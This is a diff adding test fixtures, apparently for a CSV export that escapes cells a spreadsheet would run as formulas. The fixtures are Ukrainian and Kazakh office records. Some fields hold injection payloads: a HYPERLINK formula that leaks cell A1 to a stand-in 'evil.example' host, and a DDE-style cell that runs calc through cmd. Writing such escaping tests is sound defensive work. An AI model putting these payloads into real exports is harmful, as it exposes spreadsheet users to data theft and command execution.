@@ -64,3 +64,32 @@ TRICKY = [
         languages=["kk", "ru", "crh"],
     ),
 ]
+
+# Text a spreadsheet would run as a formula (or read as a number), and text that really
+# starts with the apostrophe the CSV export puts before such cells.
+FORMULAS = [
+    office(
+        slug="formulas",
+        name='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+        organization="@SUM(1+1)*cmd|' /C calc'!A0",
+        address="-2+3, вул. Мінусова",
+        region="+Київська",
+        phone="+380 44 555 01 23",
+        description="- перший пункт\n- другий пункт",
+        lat=-33.9,
+        lon=-70.6,
+        country="CL",
+        city="Santiago",
+        postcode="'8320000",
+    ),
+    office(
+        slug="apostrophes",
+        name="'=already quoted'",
+        organization="'O'Brien",
+        address="''",
+        region="'",
+        phone="+7 727 355 01 23",
+        country="KZ",
+        city="Алмати",
+    ),
+]
